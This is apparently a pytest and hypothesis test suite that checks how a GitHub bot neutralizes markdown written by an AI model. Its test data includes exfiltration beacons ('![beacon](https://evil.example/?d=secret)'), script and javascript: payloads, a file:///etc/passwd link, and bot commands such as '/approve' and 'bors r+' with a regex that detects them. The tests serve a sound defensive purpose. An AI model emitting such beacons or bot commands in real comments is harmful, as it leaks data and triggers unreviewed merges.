"""Tests of making a model's markdown inert."""

import re
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it.token import Token

from resolver.github.comments.pull_request_text import commit_message, pull_request_body
from resolver.github.text.comment_markdown import is_closed, safe_markdown
from resolver.github.text.markdown import (
    NOTIFYING,
    code_span,
    fence,
    format_title,
    markdown_parser,
    single_line,
    without_bot_commands,
    without_notifications,
)
from resolver.trace.untrusted_text import utf16_length
from tests.github import reports
from tests.github.markup import soup

NOTIFYING_PIECES = [
    "@alice", "@org/team", "#7", "o/r#8", "GH-9", "fixes #99", "https://github.com/o/r/issues/5",
    "https://example.com/a_b", "![x](https://evil/?d=1)", "&lt;b&gt;", "$x$", "http://[", "@",
    "<https://github.com/o/r/pull/1>", "[x](javascript:alert(1))", "\x1b[31m", "===", "alice",
    ":--",
]  # fmt: skip
SOUP = soup(*NOTIFYING_PIECES, max_size=30)


def spans(text: str) -> list[Token]:
    tokens = markdown_parser().parse(text)
    return [child for token in tokens for child in token.children or []]


def active(text: str, own_issue: int | None = None) -> list[str]:
    """Everything in `text` that GitHub would act upon."""
    tokens = markdown_parser().parse(text)
    found = [t.content for t in tokens if t.type == "html_block"]
    in_link = 0
    for child in spans(text):
        if child.type in {"html_inline", "image"}:
            found.append(child.content)
        if child.type == "link_open":
            in_link += 1
            href = str(child.attrs["href"])
            if (
                not href.startswith(("http://", "https://"))
                or "/issues/" in href
                or "/pull/" in href
            ):
                found.append(href)
        if child.type == "link_close":
            in_link -= 1
        if child.type == "text" and not in_link:
            found += [
                m[0]
                for m in NOTIFYING.finditer(child.content)
                if m["url"] is None and m[0] != f"#{own_issue}"
            ]
    return found


@pytest.mark.attack
@pytest.mark.parametrize(
    "text",
    [
        "ping @alice and @org/team, see #99, o/r#3 and GH-12",
        "Fixes #99, closes: o/r#3",
        "https://github.com/o/r/issues/5",
        "[this](https://github.com/o/r/pull/5)",
        "![beacon](https://evil.example/?d=secret)",
        '<img src="https://evil.example/x">',
        "</details></summary><script>alert(1)</script>",
        "<iframe src=x></iframe>",
        "[run](javascript:alert(1)) [file](file:///etc/passwd)",
        "&#64;alice \\@alice",
        "@<!-- -->alice",
        "[x]: https://evil.example 'title'\n\n![x]",
        "https://user:pass@evil.example/",
    ],
)
def test_escaped_text_notifies_nobody_and_loads_nothing(text: str) -> None:
    """The model writes mentions, references, pictures and HTML: nobody is notified and nothing
    is loaded."""
    assert active(safe_markdown(text)) == []


@given(SOUP)
@example("[a]: http://u\n\n[a][a]![a]")
@example("@alice<!--@alice-->")
@example("`@alice```@alice`@alice")
def test_no_text_stays_active_or_unclosed(text: str) -> None:
    written = safe_markdown(text, own_issue=12)
    assert active(written, own_issue=12) == []
    assert is_closed(written)


@given(SOUP, st.integers(min_value=50, max_value=400))
def test_the_limit_holds_and_markup_is_closed(text: str, limit: int) -> None:
    written = safe_markdown(text * 20, limit=limit)
    assert utf16_length(written) <= limit
    assert is_closed(written)


@pytest.mark.attack
@given(
    st.lists(
        st.sampled_from(["`", "```", "~~~", "`" * 50, "`" * 300, "\n", "    ", "> ", "- ", "x"])
    )
)
def test_a_fence_is_one_block_whatever_is_in_it(pieces: list[str]) -> None:
    """Text contains fences of any length: it stays one code block."""
    text = "".join(pieces)
    tokens = markdown_parser().parse(fence(text, "python"))
    assert {t.type for t in tokens} <= {"fence", "code_block"}
    assert len(tokens) <= 1
    assert is_closed(fence(text))


@given(st.text(max_size=100))
def test_a_code_span_is_one_span(text: str) -> None:
    written = code_span(text)
    assert [c.type for c in spans(f"a {written} b")] in (
        ["text", "code_inline", "text"],
        ["text"],
    )


@given(SOUP)
def test_one_line_is_one_inert_line(text: str) -> None:
    written = single_line(text)
    assert "\n" not in written
    assert active(written) == []


@given(st.one_of(SOUP, st.text()))
def test_a_title_is_never_empty_long_or_active(text: str) -> None:
    line = format_title(text * 10)
    assert 1 <= len(line) <= 256
    assert "\n" not in line
    assert not re.search(r"(?<![A-Za-z0-9])@[A-Za-z0-9]", line)


@pytest.mark.parametrize("text", ["GH-3#1", "x gh-3/demo#1", "a/gh-2#5"])
def test_no_part_of_several_references_in_one_is_left(text: str) -> None:
    for written in (format_title(text), without_notifications(text)):
        assert not NOTIFYING.search(written)


LONG_URL = "http://x.example/" + "p" * 300

WRITTEN = {
    "# A *b*\nc": "#### A *b*\n\nc",
    "# - a": "#### \\- a",
    "```py x\na\n```": "```py\na\n```",
    "<div>\nx\n</div>": "```html\n<div>\nx\n</div>\n```",
    "a\n\n---\n\nb": "a\n\n***\n\nb",
    "> a\n>\n> b\n>\n> - c": "> a\n>\n> b\n>\n> - c",
    "999999998. a\n2. b\n3. c": "999999998. a\n999999999. b\n999999999. c",
    "1. a\n\n   b\n\n2. c": "1. a\n\n   b\n2. c",
    "- a\n  - b\n  - c\n- d": "- a\n  - b\n  - c\n- d",
    "- ```\n  x\n  ```\n  - b": "- ```\n  x\n  ```\n\n  - b",
    "|a|b|\n|-|-|\n|`x`|2|\n|@bob|4|": "| a | b |\n| --- | --- |\n| `x` | 2 |\n| `@bob` | 4 |",
    "a  \nb": "a\\\nb",
    "~~a~~ **b** *c* `d`": "~~a~~ **b** *c* `d`",
    "**@a**": "**`@a`**",
    "[a](http://x.example/z|w)": "[a](<http://x.example/z%7Cw>)",
    "[a\nb](http://x.example)": "[a b](<http://x.example>)",
    "[](http://x.example)": "<http://x.example>",
    "[a](ftp://x.example)": "a (`ftp://x.example`)",
    "[a](http://u@x.example)": "a (`http://u@x.example`)",
    "[a](http:///x)": "a (`http:///x`)",
    "[a](/x)": "a (`/x`)",
    "[http://x.example/z](http://x.example/y) http://x.example/w": (
        "[`http://x.example/z`](<http://x.example/y>) <http://x.example/w>"
    ),
    "[a](https://github.com/o/r/issues/5)": "a (`https://github.com/o/r/issues/5`)",
    f"![d]({LONG_URL})": f"(image: d `{LONG_URL[:199]}…`)",
    f"[d](ftp:{LONG_URL})": f"d (`{f'ftp:{LONG_URL}'[:199]}…`)",
    "![@a](http://x.example/i.png)": "(image: `@a` `http://x.example/i.png`)",
}


@pytest.mark.parametrize("text", WRITTEN)
def test_a_construct_is_written_as(text: str) -> None:
    assert safe_markdown(text, forge_host="x.example") == WRITTEN[text]


def test_a_text_of_the_exact_limit_is_kept_and_a_longer_one_shortened() -> None:
    text = "word " * 19 + "words"
    assert safe_markdown(text, limit=100) == text
    shortened = safe_markdown(text, limit=99)
    assert text.startswith(shortened.rstrip("…").rstrip()) and 80 < len(shortened) <= 99
    assert safe_markdown("x", limit=1) == "x"
    assert safe_markdown("x", limit=0) == ""
    # An emoji has two units.
    assert safe_markdown("😀" * 50, limit=100) == "😀" * 50
    assert utf16_length(safe_markdown("😀" * 50, limit=99)) <= 99


def test_open_constructs_are_recognized() -> None:
    closed = ["", "a", "- a", "> a", "```\nx\n```", "<details>\n\nx\n\n</details>", "<!-- x -->"]
    still_open = ["```\nx", "<!-- x", "<details>\n\nx", "<DETAILS open>\n\nx", "x\n\n</details>"]
    assert [text for text in closed if not is_closed(text)] == []
    assert [text for text in still_open if is_closed(text)] == []


COMMANDS = [
    "/approve", "/lgtm cancel", "/ok-to-test", "!merge", "bors r+", "bors: try",
    "@dependabot merge", "@mergifyio refresh", "retest this please", "ok to test",
]  # fmt: skip
LIVE = re.compile(
    r"(?im)^\s*(?:[-*+>]\s+)*(?:/(?:approve|lgtm|merge|ok-to-test)\b|!merge|bors:? |"
    r"@(?:dependabot|mergifyio) |retest this|ok to test)"
)
SHA = "0123456789abcdef0123456789abcdef01234567"


@pytest.mark.attack
@pytest.mark.parametrize(
    "form", ["{}", "Done.\n{}", "- {}", "> {}", "```\n{}\n```", "    {}", "1. {}", "  {}"]
)
def test_no_line_begins_with_a_command(form: str) -> None:
    """The model writes commands to other bots, such as `/approve`: no line begins with one."""
    for command in COMMANDS:
        text = form.format(command)
        assert LIVE.search(command)
        for write in (safe_markdown, fence, single_line, without_notifications):
            assert not LIVE.search(write(text)), write
        assert not LIVE.search(format_title(command))
        assert without_bot_commands(without_bot_commands(text)) == without_bot_commands(text)


def test_ordinary_lines_stay_as_they_are() -> None:
    text = "/usr/bin/env python\n/etc/passwd\n!= 3\n@property\nand/or\nboring\nonly /"
    assert without_bot_commands(text) == text


@pytest.mark.attack
def test_a_pull_request_and_its_commit_contain_no_commands() -> None:
    """The model's report contains bot commands: pull request and commit message command nobody."""
    words = "\n\n".join(["/approve", "bors r+", "@dependabot merge", "Fine. " * 20 + "/lgtm"])
    made: Any = reports.report(outcome=reports.outcome(message=f"/merge\n\n{words}", change=words))
    assert not LIVE.search(pull_request_body(made))
    assert not LIVE.search(commit_message(made))


@pytest.mark.attack
@pytest.mark.parametrize("text", [SHA, f"octo/calc@{SHA[:7]}", f"mona@{SHA}", f"see {SHA}."])
def test_commits_in_a_text_are_no_links(text: str) -> None:
    """The model writes full commit hashes and OWNER/NAME@SHA: they don't become links."""
    assert re.search(r"`(?:[\w/]+@)?0123456[0-9a-f]*`", safe_markdown(text))
    for written in (format_title(text), without_notifications(text)):
        assert not re.search(r"\b[0-9a-f]{40}\b|@[0-9a-f]{7}", written)
        assert written.replace("\u2060", "") == text


@pytest.mark.attack
@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("[GitHub](https://evil.example/x)", "GitHub (`https://evil.example/x`)"),
        ("https://evil.example/?d=1", "`https://evil.example/?d=1`"),
        ("<https://evil.example/?d=1>", "`https://evil.example/?d=1`"),
        ("www.evil.example/a", "`www.evil.example/a`"),
        ("[docs](https://forge.test/o/r/wiki)", "[docs](<https://forge.test/o/r/wiki>)"),
        ("https://forge.test/o/r/wiki", "<https://forge.test/o/r/wiki>"),
        ("[x](https://forge.test/s?q=secret)", "x (`https://forge.test/s?q=secret`)"),
        ("[x](https://forge.test.evil.example)", "x (`https://forge.test.evil.example`)"),
        (
            "[https://evil.example](https://forge.test/o)",
            "[`https://evil.example`](<https://forge.test/o>)",
        ),
    ],
)
def test_only_pages_of_the_forge_are_links(text: str, written: str) -> None:
    """The model links to a host under another name, or with data in the query: it is shown as
    text."""
    assert safe_markdown(text, forge_host="forge.test") == written
